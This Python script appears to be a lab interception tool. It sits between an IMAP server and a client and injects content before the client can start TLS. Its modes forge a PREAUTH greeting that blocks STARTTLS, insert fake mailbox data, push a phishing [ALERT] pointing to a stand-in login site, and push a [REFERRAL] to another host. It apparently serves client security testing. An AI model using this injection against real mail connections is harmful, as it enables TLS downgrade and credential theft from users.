#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A box that speaks to an IMAP client before the client can ask for TLS. For this lab only: to make captures of what such
boxes do.

preauth:  the greeting claims that the user is already logged in, so STARTTLS is no longer allowed
data:     mailbox data in front of the reply to CAPABILITY (or to the first command)
alert:    an [ALERT] with a web address in front of that reply
referral: a [REFERRAL] to another host in front of that reply
"""
import re

import dialogue
import intercept

PUSHED = {
    "data": b"* FLAGS (\\Answered \\Seen)\r\n* 3 EXISTS\r\n* 1 RECENT\r\n",
    "alert": b"* OK [ALERT] Your mailbox was moved, sign in at http://login.injected.example.org/ to keep it\r\n",
    "referral": b"* OK [REFERRAL imap://user;AUTH=*@injected.example.org/] Try the other server\r\n",
}


class Greeting(dialogue.Dialogue):
    def __init__(self, connection, how):
        super().__init__(connection)
        self.how = how
        self.greeted = self.pushed = False

    def from_server(self, line):
        if not self.greeted:
            self.greeted = True
            return re.sub(rb"^\* OK", b"* PREAUTH", line) if self.how == "preauth" else line
        if self.how != "preauth" and not self.pushed:
            self.pushed = True
            return PUSHED[self.how] + line
        return line


def main():
    options = intercept.parser(__doc__, ports=(143,))
    options.add_argument("--how", choices=("preauth", *PUSHED), required=True)
    arguments = options.parse_args()
    intercept.serve(arguments,
                    dialogue.handler(lambda connection: Greeting(connection, arguments.how)))


if __name__ == "__main__":
    main()
